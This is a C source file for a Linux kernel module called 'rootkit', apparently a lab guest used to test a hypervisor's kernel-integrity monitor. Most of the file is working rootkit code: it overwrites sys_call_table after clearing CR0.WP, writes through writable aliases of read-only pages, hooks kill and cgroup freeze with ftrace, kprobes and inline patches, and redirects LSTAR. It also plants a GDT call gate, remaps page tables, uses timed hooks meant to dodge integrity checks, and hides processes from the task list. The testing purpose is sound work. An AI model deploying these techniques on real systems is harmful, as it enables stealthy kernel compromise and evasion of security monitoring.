// SPDX-License-Identifier: GPL-2.0
/*
 * rootkit: the attacks of issue 9 as a lab guest kernel module, each run on its own when
 * its name is written to /sys/module/rootkit/parameters/run:
 *
 *   wp      clear CR0.WP, then overwrite sys_call_table[__NR_kill] and the first bytes of
 *           __x64_sys_kill's text (technique a)
 *   alias   write sys_call_table[__NR_kill] through a fresh writable alias (vmap) of its
 *           physical page (b)
 *   ftrace  hook cgroup_freeze_write and __x64_sys_kill with ftrace (IPMODIFY): they return
 *           success and do nothing (c)
 *   kprobe  the same with kprobes whose handler returns for the function (c): int3
 *           kprobes on the instruction after the ftrace call site (a kprobe on the site
 *           itself would be ftrace again), kept from optimization (a jump) by a
 *           post_handler
 *   kprobe-off  unregister them (the control boot's next attack needs the paths clear)
 *   gdt     write the lower half of a DPL 3 call gate to the module's stub into the GDT
 *           slot Linux leaves empty (7) through a writable alias of the GDT's page (a
 *           working gate needs slot 8 too, the TSS descriptor: the write is what the
 *           check must see); gdt-read prints the slot as the CPU's GDT has it
 *   gdtr    load GDTR on CPU 0 with the same base and a 64 KiB limit; gdtr-read prints
 *           CPU 0's GDTR; gdtr-restore loads the original
 *   inline  patch the first bytes of cgroup_freeze_write (after its ENDBR) through a
 *           writable alias of its text page: "mov rax, rdx; ret" returns nbytes (d)
 *   lstar   point IA32_LSTAR at a stub of its own (e); if the write is taken, LSTAR is put
 *           back at once (the stub is not mapped in the user page tables PTI switches
 *           from, so the guest could not survive a system call through it)
 *   loop S  put the inline patch back every millisecond for S seconds from a kernel thread
 *           (g: a hook re-applied while an operation runs)
 *   flash S for S seconds, a kernel thread patches __x64_sys_kill (after its ENDBR: "xor
 *           eax, eax; ret") for 8-9 ms, then puts the original back for 0.2-0.3 ms, and
 *           again: a kill meanwhile most likely returns 0 and does nothing, while the text
 *           is often as it was when someone compares it (a hook put in and taken out)
 *   remap S the same with the mapping instead of the text: for S seconds, a kernel thread
 *           points the page-table entry that maps __x64_sys_kill (a 2 MiB or 4 KiB leaf) at
 *           a copy with that patch for 8-9 ms, then back for 0.2-0.3 ms, and again
 *   oneshot S  for S seconds, a kernel thread keeps a one-shot hook on __x64_sys_kill: a
 *           JMP to the module's stub in place of the ftrace call site; the first
 *           kill(SIGSTOP) through it puts the original bytes back and returns 0 without
 *           doing anything, so right after that call the text is as it was (other signals
 *           go through). The thread arms it again
 *           within 1-2 ms when a check took it out, 200 ms after a call did
 *   hide N  take process N off the tasks list (f): list_del_init under tasklist_lock, so its
 *           exit later unlinks nothing and the kernel stays sound; /proc (the pid IDR)
 *           still lists it, for_each_process and a tasks-list walk do not
 *   vmcall  2000 VMCALLs from ring 0 with registers at random (a fixed seed), a quarter of
 *           them with the channel's magic (hv/chan/vmcall.h) and SEND, RECV or any function:
 *           the channel is for ring 3 only, so each must raise #UD, as without a monitor
 *
 * Every attack that can fault is done with an exception-table fixup, so a refused one
 * (#GP from a pinned CR0 bit or MSR) does not oops. Each logs one line, which the lab's
 * /init repeats on the console (tools/lab/guest/init, rootkit-request):
 *
 *   GUEST-ROOTKIT <name> <what happened, key=value>
 *
 * The hooks stay in place (the module is never unloaded in the lab): what an operation
 * does afterwards shows whether the monitor repaired them. Built against Debian's headers
 * of the lab kernel by tools/lab/build-module.sh (by hand: make -C /lib/modules/REL/build
 * M=$PWD modules).
 */
#define pr_fmt(fmt) "rootkit: " fmt

#include <linux/ftrace.h>
#include <linux/kernel.h>
#include <linux/delay.h>
#include <linux/jiffies.h>
#include <linux/kprobes.h>
#include <linux/kthread.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/moduleparam.h>
#include <linux/mutex.h>
#include <linux/pid.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>
#include <linux/slab.h>
#include <linux/string.h>
#include <linux/vmalloc.h>
#include <asm/asm.h>
#include <asm/desc.h>
#include <asm/pgtable_types.h>
#include <asm/msr.h>
#include <asm/processor-flags.h>
#include <asm/unistd.h>

static unsigned long (*lookup)(const char *name);

/* kallsyms_lookup_name is not exported since 5.7: a kprobe on it says where it is */
static int find_lookup(void)
{
	struct kprobe kp = {.symbol_name = "kallsyms_lookup_name"};
	int rc = register_kprobe(&kp);

	if (rc < 0)
		return rc;
	lookup = (unsigned long (*)(const char *))kp.addr;
	unregister_kprobe(&kp);
	return 0;
}

static long stub_kill(const struct pt_regs *regs)
{
	return 0;
}

static ssize_t stub_freeze(void *of, char *buf, size_t nbytes, loff_t off)
{
	return nbytes;
}

/* clang-format would write the exception-table macro's "%0" as "% 0" */
/* clang-format off */
/* mov to CR0 with a fixup: 0, or -EFAULT when the CPU refused it (#GP) */
static int write_cr0_safe(unsigned long v)
{
	int err = 0;

	asm volatile("1: mov %1, %%cr0\n"
		     "2:\n" _ASM_EXTABLE_TYPE_REG(1b, 2b, EX_TYPE_EFAULT_REG, %0)
		     : "+r"(err)
		     : "r"(v)
		     : "memory");
	return err;
}

/* stores with a fixup: a write the page tables refuse faults (copy_to_kernel_nofault is
 * not exported) */
static int store8_safe(void *p, unsigned long v)
{
	int err = 0;

	asm volatile("1: movq %2, (%1)\n"
		     "2:\n" _ASM_EXTABLE_TYPE_REG(1b, 2b, EX_TYPE_EFAULT_REG, %0)
		     : "+r"(err)
		     : "r"(p), "r"(v)
		     : "memory");
	return err;
}

static int store1_safe(u8 *p, u8 v)
{
	int err = 0;

	asm volatile("1: movb %2, (%1)\n"
		     "2:\n" _ASM_EXTABLE_TYPE_REG(1b, 2b, EX_TYPE_EFAULT_REG, %0)
		     : "+r"(err)
		     : "r"(p), "q"(v)
		     : "memory");
	return err;
}

/* VMCALL with every register the channel's ABI names (hv/chan/vmcall.h): 0 when it returned
 * (*ax: its RAX), -EFAULT when it raised #UD */
static int vmcall_safe(unsigned long *ax, unsigned long bx, unsigned long cx, unsigned long dx,
		       unsigned long si, unsigned long di)
{
	int err = 0;

	asm volatile("1: vmcall\n"
		     "2:\n" _ASM_EXTABLE_TYPE_REG(1b, 2b, EX_TYPE_EFAULT_REG, %0)
		     : "+r"(err), "+a"(*ax), "+b"(bx), "+c"(cx), "+d"(dx), "+S"(si), "+D"(di)
		     :
		     : "memory");
	return err;
}

/* clang-format on */

static int copy_safe(u8 *dst, const u8 *src, size_t n)
{
	for (size_t i = 0; i < n; i++)
		if (store1_safe(dst + i, src[i]))
			return -EFAULT;
	return 0;
}

static unsigned long *syscall_table(void)
{
	return (unsigned long *)lookup("sys_call_table");
}

/* A writable alias of the page holding p (vmap of its struct page): the image's own
 * mapping stays read-only, as a careful rootkit would leave it. */
static void *alias_of(void *p, void **mapping)
{
	struct page *pg = is_vmalloc_addr(p) ? vmalloc_to_page(p) : virt_to_page(p);

	if (!is_vmalloc_addr(p) && !virt_addr_valid(p)) /* the image, the fixmap */
		pg = pfn_to_page(slow_virt_to_phys(p) >> PAGE_SHIFT);
	*mapping = vmap(&pg, 1, VM_MAP, PAGE_KERNEL);
	return *mapping ? (char *)*mapping + offset_in_page(p) : NULL;
}

static void attack_wp(void)
{
	unsigned long cr0 = read_cr0(), *table = syscall_table();
	unsigned long before = table[__NR_kill];
	void *kill_text = (void *)lookup("__x64_sys_kill");
	u8 text_before[4], ret0[4] = {0x31, 0xc0, 0xc3, 0x90}; /* xor eax, eax; ret; nop */
	int wp_rc = write_cr0_safe(cr0 & ~X86_CR0_WP);
	bool cleared = !(read_cr0() & X86_CR0_WP);
	int table_rc = -1, text_rc = -1;

	memcpy(text_before, kill_text, sizeof(text_before));
	if (cleared) {
		table_rc = store8_safe(&table[__NR_kill], (unsigned long)stub_kill);
		text_rc = copy_safe((u8 *)kill_text + 4, ret0, sizeof(ret0));
		write_cr0_safe(cr0);
	}
	pr_notice("GUEST-ROOTKIT wp cr0_write=%s wp_cleared=%d table_write=%d table_changed=%d "
		  "text_write=%d\n",
		  wp_rc ? "refused" : "done", cleared, table_rc, table[__NR_kill] != before,
		  text_rc);
}

static void attack_alias(void)
{
	unsigned long *table = syscall_table(), before = table[__NR_kill];
	void *mapping;
	unsigned long *alias = alias_of(&table[__NR_kill], &mapping);
	int rc = alias ? store8_safe(alias, (unsigned long)stub_kill) : -ENOMEM;
	unsigned long through_alias = alias ? *alias : 0;

	if (mapping)
		vunmap(mapping);
	pr_notice("GUEST-ROOTKIT alias write=%d alias_reads_stub=%d table_changed=%d\n", rc,
		  through_alias == (unsigned long)stub_kill, table[__NR_kill] != before);
}

static unsigned long freeze_addr, kill_addr;

static void notrace ftrace_redirect(unsigned long ip, unsigned long parent_ip,
				    struct ftrace_ops *ops, struct ftrace_regs *fregs)
{
	struct pt_regs *regs = ftrace_get_regs(fregs);

	if (!regs)
		return;
	if (ip == freeze_addr)
		regs->ip = (unsigned long)stub_freeze;
	else if (ip == kill_addr)
		regs->ip = (unsigned long)stub_kill;
}

static struct ftrace_ops hook_ops = {
	.func = ftrace_redirect,
	.flags = FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_IPMODIFY | FTRACE_OPS_FL_RECURSION,
};

static void attack_ftrace(void)
{
	/* not exported either */
	unsigned long (*location)(unsigned long) = (void *)lookup("ftrace_location");
	int rc;

	freeze_addr = location(lookup("cgroup_freeze_write"));
	kill_addr = location(lookup("__x64_sys_kill"));
	rc = ftrace_set_filter_ip(&hook_ops, freeze_addr, 0, 0);
	if (!rc)
		rc = ftrace_set_filter_ip(&hook_ops, kill_addr, 0, 0);
	if (!rc)
		rc = register_ftrace_function(&hook_ops);
	pr_notice("GUEST-ROOTKIT ftrace register=%d freeze=0x%lx kill=0x%lx\n", rc, freeze_addr,
		  kill_addr);
}

/* Return from the probed function at once, as if it had returned `value`. */
static int return_now(struct pt_regs *regs, unsigned long value)
{
	regs->ax = value;
	regs->ip = *(unsigned long *)regs->sp;
	regs->sp += sizeof(unsigned long);
	return 1; /* the handler changed ip: no single-step */
}

static int kp_freeze(struct kprobe *p, struct pt_regs *regs)
{
	return return_now(regs, regs->dx); /* nbytes */
}

static int kp_kill(struct kprobe *p, struct pt_regs *regs)
{
	return return_now(regs, 0);
}

/* never called (the pre-handlers skip the instruction): its presence keeps the probe an
 * int3 (optimize_kprobe leaves probes with a post_handler alone) */
static void kp_post(struct kprobe *p, struct pt_regs *regs, unsigned long flags)
{
}

static struct kprobe kprobe_freeze = {.pre_handler = kp_freeze, .post_handler = kp_post};
static struct kprobe kprobe_kill = {.pre_handler = kp_kill, .post_handler = kp_post};
static bool kprobes_on;

/* The instruction after fn's ftrace call site (5 bytes): the stack is still as at entry,
 * so return_now holds there. */
static unsigned long after_fentry(const char *fn)
{
	unsigned long (*location)(unsigned long) = (void *)lookup("ftrace_location");
	unsigned long at = lookup(fn), site = at && location ? location(at) : 0;

	return site ? site + 5 : 0;
}

static void attack_kprobe(void)
{
	int a = -ENOENT, b = -ENOENT;

	kprobe_freeze.addr = (kprobe_opcode_t *)after_fentry("cgroup_freeze_write");
	kprobe_kill.addr = (kprobe_opcode_t *)after_fentry("__x64_sys_kill");
	if (!kprobes_on && kprobe_freeze.addr && kprobe_kill.addr) {
		a = register_kprobe(&kprobe_freeze);
		b = register_kprobe(&kprobe_kill);
		kprobes_on = a == 0 && b == 0;
	}
	pr_notice("GUEST-ROOTKIT kprobe freeze=%d kill=%d at=0x%lx,0x%lx int3=%d,%d\n", a, b,
		  (unsigned long)kprobe_freeze.addr, (unsigned long)kprobe_kill.addr,
		  kprobe_freeze.addr && *(u8 *)kprobe_freeze.addr == 0xcc,
		  kprobe_kill.addr && *(u8 *)kprobe_kill.addr == 0xcc);
}

static void attack_kprobe_off(void)
{
	bool was = kprobes_on;

	if (was) {
		unregister_kprobe(&kprobe_freeze);
		unregister_kprobe(&kprobe_kill);
		kprobes_on = false;
	}
	pr_notice("GUEST-ROOTKIT kprobe-off unregistered=%d\n", was);
}

static const u8 ret_nbytes[4] = {0x48, 0x89, 0xd0, 0xc3}; /* mov rax, rdx; ret */

static u8 *after_endbr(const char *fn)
{
	static const u8 endbr64[4] = {0xf3, 0x0f, 0x1e, 0xfa};
	u8 *at = (u8 *)lookup(fn);

	return at + (memcmp(at, endbr64, 4) == 0 ? 4 : 0);
}

static int write_text(u8 *at, const u8 *bytes, size_t n)
{
	void *mapping;
	u8 *alias = alias_of(at, &mapping);
	int rc = alias ? copy_safe(alias, bytes, n) : -ENOMEM;

	if (mapping)
		vunmap(mapping);
	return rc;
}

/* The patch of cgroup_freeze_write (after its ENDBR) through an alias of its page: 0 or an
 * error; *at: where. */
static u8 *freeze_at(void)
{
	return after_endbr("cgroup_freeze_write");
}

static int patch_freeze(u8 **at)
{
	*at = freeze_at();
	return write_text(*at, ret_nbytes, sizeof(ret_nbytes));
}

static void attack_inline(void)
{
	u8 *at;
	int rc = patch_freeze(&at);

	pr_notice("GUEST-ROOTKIT inline write=%d at=0x%lx patched=%d\n", rc, (unsigned long)at,
		  memcmp(at, ret_nbytes, sizeof(ret_nbytes)) == 0);
}

/* The end of loop, flash and remap (one runs at a time), in jiffies */
static unsigned long flash_until;

/* (g): the inline patch put back every millisecond for SECS seconds, by a kernel thread,
 * whenever it is not there: an operation meanwhile must not be reported done on a hooked
 * kernel. "GUEST-ROOTKIT loop-done rewrites=N" in the kernel log at its end. */

static int loop_fn(void *data)
{
	unsigned long rewrites = 0, looks = 0;
	u8 *at;

	while (!kthread_should_stop() && time_before(jiffies, flash_until)) {
		looks++;
		if (memcmp(freeze_at(), ret_nbytes, sizeof(ret_nbytes)) != 0 &&
		    patch_freeze(&at) == 0)
			rewrites++; /* it had been put back */
		usleep_range(1000, 2000);
	}
	pr_notice("GUEST-ROOTKIT loop-done rewrites=%lu looks=%lu\n", rewrites, looks);
	return 0;
}

/* flash: "GUEST-ROOTKIT flash-done flashes=N" in the kernel log at its end */

static int flash_fn(void *data)
{
	static const u8 ret0[4] = {0x31, 0xc0, 0xc3, 0x90}; /* xor eax, eax; ret; nop */
	u8 *at = after_endbr("__x64_sys_kill"), saved[4];
	unsigned long flashes = 0;

	memcpy(saved, at, sizeof(saved));
	while (!kthread_should_stop() && time_before(jiffies, flash_until)) {
		if (write_text(at, ret0, sizeof(ret0)) == 0)
			flashes++;
		usleep_range(8000, 9000);
		write_text(at, saved, sizeof(saved));
		usleep_range(200, 300);
	}
	pr_notice("GUEST-ROOTKIT flash-done flashes=%lu\n", flashes);
	return 0;
}

/* remap: "GUEST-ROOTKIT remap-done flips=N level=L" in the kernel log at its end */
static int remap_fn(void *data)
{
	static const u8 ret0[4] = {0x31, 0xc0, 0xc3, 0x90}; /* xor eax, eax; ret; nop */
	unsigned long va = (unsigned long)after_endbr("__x64_sys_kill"), size, base;
	void (*flush_all)(void) = (void *)lookup("flush_tlb_all");
	unsigned long flips = 0;
	unsigned int level = 0;
	pte_t *entry = lookup_address(va, &level);
	struct page *copy = NULL;
	pteval_t orig, moved;

	if (entry && flush_all && (level == PG_LEVEL_2M || level == PG_LEVEL_4K)) {
		size = level == PG_LEVEL_2M ? PMD_SIZE : PAGE_SIZE;
		copy = alloc_pages(GFP_KERNEL, get_order(size));
	}
	if (copy) {
		base = va & ~(size - 1);
		memcpy(page_address(copy), (void *)base, size);
		memcpy((u8 *)page_address(copy) + (va - base), ret0, sizeof(ret0));
		orig = pte_val(*entry);
		moved = (orig & ~(PTE_PFN_MASK & ~(size - 1))) |
			((pteval_t)page_to_pfn(copy) << PAGE_SHIFT);
		while (!kthread_should_stop() && time_before(jiffies, flash_until)) {
			if (store8_safe(entry, moved) == 0)
				flips++;
			flush_all();
			usleep_range(8000, 9000);
			store8_safe(entry, orig);
			flush_all();
			usleep_range(200, 300);
		}
		__free_pages(copy, get_order(size));
	}
	pr_notice("GUEST-ROOTKIT remap-done flips=%lu level=%u\n", flips, level);
	return 0;
}

/* oneshot: the hook, and the bytes it replaced */
static u8 *oneshot_at, oneshot_saved[5];
static unsigned long oneshot_fired; /* jiffies of the last call through the hook */

static u8 oneshot_jmp[5] = {0xe9};
/* The hook's bytes change only under this lock, and the JMP goes back only while the
 * thread runs (a kill in flight when it ended armed the hook again for good, and ftrace
 * then found a JMP where it expected its NOP) */
static DEFINE_MUTEX(oneshot_lock);
static bool oneshot_active;

/* Only SIGSTOP is swallowed (the lab's checker sends itself other signals all the time):
 * any other kill runs the real function between putting the bytes back and the JMP again */
static long oneshot_kill(const struct pt_regs *regs)
{
	long (*real)(const struct pt_regs *) =
		(void *)(oneshot_at - (oneshot_at[-4] == 0xf3 ? 4 : 0));
	long rc = 0;

	mutex_lock(&oneshot_lock);
	write_text(oneshot_at, oneshot_saved, sizeof(oneshot_saved));
	if (regs->si == SIGSTOP) {
		WRITE_ONCE(oneshot_fired, jiffies);
	} else {
		rc = real(regs);
		if (oneshot_active)
			write_text(oneshot_at, oneshot_jmp, sizeof(oneshot_jmp));
	}
	mutex_unlock(&oneshot_lock);
	return rc;
}

static int oneshot_fn(void *data)
{
	unsigned long arms = 0;
	u8 *jmp = oneshot_jmp;

	mutex_lock(&oneshot_lock);
	oneshot_at = after_endbr("__x64_sys_kill");
	memcpy(oneshot_saved, oneshot_at, sizeof(oneshot_saved));
	*(s32 *)(jmp + 1) = (s32)((long)oneshot_kill - (long)(oneshot_at + 5));
	oneshot_active = true;
	mutex_unlock(&oneshot_lock);
	while (!kthread_should_stop() && time_before(jiffies, flash_until)) {
		/* armed: the JMP is there. Taken out by a check: armed again at once; taken out by
		 * its own call: only after 200 ms, so whoever looks right after that call finds
		 * the text as it was */
		mutex_lock(&oneshot_lock);
		if (memcmp(oneshot_at, jmp, sizeof(oneshot_jmp)) != 0 &&
		    time_after(jiffies, READ_ONCE(oneshot_fired) + HZ / 5) &&
		    write_text(oneshot_at, jmp, sizeof(oneshot_jmp)) == 0)
			arms++;
		mutex_unlock(&oneshot_lock);
		usleep_range(1000, 2000);
	}
	mutex_lock(&oneshot_lock);
	oneshot_active = false;
	if (memcmp(oneshot_at, jmp, sizeof(oneshot_jmp)) == 0)
		write_text(oneshot_at, oneshot_saved, sizeof(oneshot_saved));
	mutex_unlock(&oneshot_lock);
	pr_notice("GUEST-ROOTKIT oneshot-done arms=%lu\n", arms);
	return 0;
}

/* loop, flash, remap or oneshot SECS: the thread that does it */
static void start_flashing(const char *name, int (*fn)(void *), const char *arg)
{
	struct task_struct *t = NULL;
	int secs, rc = kstrtoint(arg, 10, &secs);

	if (rc == 0 && (secs <= 0 || secs > 600))
		rc = -EINVAL;
	if (rc == 0) {
		flash_until = jiffies + (unsigned long)secs * HZ;
		t = kthread_run(fn, NULL, "rk-%s", name);
		rc = IS_ERR(t) ? (int)PTR_ERR(t) : 0;
	}
	pr_notice("GUEST-ROOTKIT %s started=%d secs=%s\n", name, rc == 0, arg);
}

static void attack_lstar(void)
{
	u64 before, after;
	int rc;

	rdmsrl(MSR_LSTAR, before);
	rc = wrmsrl_safe(MSR_LSTAR, (u64)(unsigned long)stub_kill);
	rdmsrl(MSR_LSTAR, after);
	if (after != before)
		wrmsrl(MSR_LSTAR, before);
	pr_notice("GUEST-ROOTKIT lstar write=%d moved=%d\n", rc, after != before);
}

/* The GDT slot Linux leaves empty (arch/x86/include/asm/segment.h: 7, between the
 * user CS and the TSS) */
#define GDT_SLOT_EMPTY 7

static u64 gdt_slot(void)
{
	struct desc_ptr d;

	native_store_gdt(&d);
	return ((u64 *)d.address)[GDT_SLOT_EMPTY];
}

static void attack_gdt(void)
{
	unsigned long stub = (unsigned long)stub_kill;
	/* SDM Vol. 3A 6.8.3 (call gates): offset 15:0, selector, type 1100b, DPL 3, present,
	 * offset 31:16 */
	u64 gate = (stub & 0xffff) | (u64)__KERNEL_CS << 16 | 0xecull << 40 |
		   (u64)((stub >> 16) & 0xffff) << 48;
	struct desc_ptr d;
	void *mapping;
	u64 *alias;
	int rc;

	native_store_gdt(&d);
	alias = alias_of((u64 *)d.address + GDT_SLOT_EMPTY, &mapping);
	rc = alias ? store8_safe(alias, gate) : -ENOMEM;
	if (mapping)
		vunmap(mapping);
	pr_notice("GUEST-ROOTKIT gdt write=%d slot=%d now=0x%016llx planted=%d\n", rc,
		  GDT_SLOT_EMPTY, gdt_slot(), gdt_slot() == gate);
}

static void attack_gdt_read(void)
{
	pr_notice("GUEST-ROOTKIT gdt-read slot=%d now=0x%016llx empty=%d\n", GDT_SLOT_EMPTY,
		  gdt_slot(), gdt_slot() == 0);
}

/* GDTR keeps its base: the GDT must stay where the user page tables map it too (the CPU
 * entry area), or the first VERW or IRET under PTI's user CR3 faults for good. Its limit
 * grows to 64 KiB instead: selectors past Linux's 16 slots then reach whatever follows the
 * GDT's page. */
static struct desc_ptr gdtr_saved;
static bool gdtr_moved;

static void gdtr_move(void *unused)
{
	struct desc_ptr d;

	native_store_gdt(&gdtr_saved);
	d.address = gdtr_saved.address;
	d.size = 0xffff;
	native_load_gdt(&d);
}

static void gdtr_back(void *unused)
{
	native_load_gdt(&gdtr_saved);
}

static void gdtr_read(void *d)
{
	native_store_gdt(d);
}

static struct desc_ptr gdtr_now_cpu0(void)
{
	struct desc_ptr d = {0};

	smp_call_function_single(0, gdtr_read, &d, 1);
	return d;
}

static void attack_gdtr(void)
{
	int rc = -EBUSY;
	struct desc_ptr now;

	if (!gdtr_moved) {
		rc = smp_call_function_single(0, gdtr_move, NULL, 1);
		gdtr_moved = rc == 0;
	}
	now = gdtr_now_cpu0();
	pr_notice("GUEST-ROOTKIT gdtr load=%d base=0x%lx limit_was=%u limit=%u moved=%d\n", rc,
		  now.address, gdtr_saved.size, now.size, now.size != gdtr_saved.size);
}

static void attack_gdtr_read(void)
{
	struct desc_ptr now = gdtr_now_cpu0();

	pr_notice("GUEST-ROOTKIT gdtr-read base=0x%lx limit=%u back=%d\n", now.address, now.size,
		  now.size == gdtr_saved.size && now.address == gdtr_saved.address);
}

static void attack_gdtr_restore(void)
{
	int rc = gdtr_moved ? smp_call_function_single(0, gdtr_back, NULL, 1) : -ENOENT;
	struct desc_ptr now = gdtr_now_cpu0();

	gdtr_moved = gdtr_moved && rc != 0;
	pr_notice("GUEST-ROOTKIT gdtr-restore load=%d limit=%u back=%d\n", rc, now.size,
		  rc == 0 && now.size == gdtr_saved.size && now.address == gdtr_saved.address);
}

static void attack_hide(const char *arg)
{
	struct task_struct *t;
	/* not exported: found as kallsyms_lookup_name was */
	rwlock_t *tasklist = lookup ? (rwlock_t *)lookup("tasklist_lock") : NULL;
	int nr, rc = kstrtoint(arg, 10, &nr);

	if (rc == 0 && tasklist == NULL)
		rc = -ENOENT;
	if (rc == 0) {
		rcu_read_lock();
		t = pid_task(find_vpid(nr), PIDTYPE_PID);
		if (t != NULL && thread_group_leader(t)) {
			write_lock_irq(tasklist);
			list_del_init(&t->tasks);
			write_unlock_irq(tasklist);
		} else {
			rc = -ESRCH;
		}
		rcu_read_unlock();
	}
	pr_notice("GUEST-ROOTKIT hide pid=%s unlinked=%d\n", arg, rc == 0);
}

/* hv/chan/vmcall.h and chan/frame.h, which a module build cannot include */
#define CHAN_VMCALL_MAGIC 0x4856434800000000ull
#define CHAN_VMCALL_SEND  1u
#define CHAN_VMCALL_RECV  2u
#define CHAN_FRAME_MAX    4232u
#define VMCALL_CALLS      2000

static u64 xorshift_state;

static u64 xorshift(void)
{
	/* xorshift64 (Marsaglia 2003): the same calls on every run */
	xorshift_state ^= xorshift_state << 13;
	xorshift_state ^= xorshift_state >> 7;
	xorshift_state ^= xorshift_state << 17;
	return xorshift_state;
}

/* Half of the channel calls get a buffer of the module's own: a monitor that wrongly took
 * a call from ring 0 then answers (returned=) instead of writing anywhere in the kernel. */
static void attack_vmcall(void)
{
	u8 *own = kzalloc(CHAN_FRAME_MAX, GFP_KERNEL);
	unsigned int chan = 0, ud = 0, returned = 0;
	unsigned long first_rax = 0;

	xorshift_state = 0x9e3779b97f4a7c15ull;
	for (int i = 0; i < VMCALL_CALLS; i++) {
		unsigned long ax = xorshift(), bx = xorshift(), cx = xorshift();
		unsigned long dx = xorshift(), si = xorshift(), di = xorshift();

		if ((xorshift() & 3) == 0) {
			u64 fn = xorshift();

			fn = fn & 8 ? (fn & 1 ? CHAN_VMCALL_SEND : CHAN_VMCALL_RECV) : fn & 7;
			ax = CHAN_VMCALL_MAGIC | fn;
			if (own && (xorshift() & 1)) {
				bx = (unsigned long)own;
				cx = CHAN_FRAME_MAX;
			}
			chan++;
		}
		if (vmcall_safe(&ax, bx, cx, dx, si, di) == 0) {
			if (returned++ == 0)
				first_rax = ax;
		} else {
			ud++;
		}
		if (i % 64 == 63)
			cond_resched();
	}
	kfree(own);
	pr_notice("GUEST-ROOTKIT vmcall calls=%d ud=%u returned=%u chan=%u first_rax=0x%lx\n",
		  VMCALL_CALLS, ud, returned, chan, first_rax);
}

static const struct {
	const char *name;
	void (*run)(void);
} attacks[] = {
	{"wp", attack_wp},
	{"alias", attack_alias},
	{"ftrace", attack_ftrace},
	{"kprobe", attack_kprobe},
	{"inline", attack_inline},
	{"lstar", attack_lstar},
	{"kprobe-off", attack_kprobe_off},
	{"gdt", attack_gdt},
	{"gdt-read", attack_gdt_read},
	{"gdtr", attack_gdtr},
	{"gdtr-read", attack_gdtr_read},
	{"gdtr-restore", attack_gdtr_restore},
	{"vmcall", attack_vmcall},
};

/* The attacks that run for SECS seconds in a kernel thread */
static const struct {
	const char *name;
	int (*fn)(void *);
} threads[] = {
	{"loop", loop_fn},
	{"flash", flash_fn},
	{"remap", remap_fn},
	{"oneshot", oneshot_fn},
};

static int run_set(const char *val, const struct kernel_param *kp)
{
	size_t n = strcspn(val, "\n");
	char arg[16];

	for (size_t i = 0; i < ARRAY_SIZE(threads); i++) {
		size_t k = strlen(threads[i].name);
		if (n > k + 1 && n - k - 1 < sizeof(arg) && !strncmp(val, threads[i].name, k) &&
		    val[k] == ' ') {
			memcpy(arg, val + k + 1, n - k - 1);
			arg[n - k - 1] = '\0';
			start_flashing(threads[i].name, threads[i].fn, arg);
			return 0;
		}
	}
	if (n > 5 && n - 5 < sizeof(arg) && !strncmp(val, "hide ", 5)) {
		memcpy(arg, val + 5, n - 5);
		arg[n - 5] = '\0';
		attack_hide(arg);
		return 0;
	}
	for (size_t i = 0; i < ARRAY_SIZE(attacks); i++) {
		if (strlen(attacks[i].name) == n && !strncmp(val, attacks[i].name, n)) {
			attacks[i].run();
			return 0;
		}
	}
	pr_notice("GUEST-ROOTKIT unknown=%.*s\n", (int)n, val);
	return -EINVAL;
}

static const struct kernel_param_ops run_ops = {.set = run_set};
module_param_cb(run, &run_ops, NULL, 0200);
MODULE_PARM_DESC(run,
		 "the attack to run: wp, alias, ftrace, kprobe, kprobe-off, inline, lstar, gdt, "
		 "gdt-read, gdtr, gdtr-read, gdtr-restore, loop SECS, flash SECS, remap SECS, "
		 "oneshot SECS, hide PID, vmcall");

static int __init rootkit_init(void)
{
	int rc = find_lookup();

	if (rc < 0)
		pr_notice("GUEST-ROOTKIT loaded=0 lookup=%d\n", rc);
	else
		pr_notice("GUEST-ROOTKIT loaded=1\n");
	return rc;
}

module_init(rootkit_init);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("The lab's rootkit: kernel integrity attacks of issue 9");
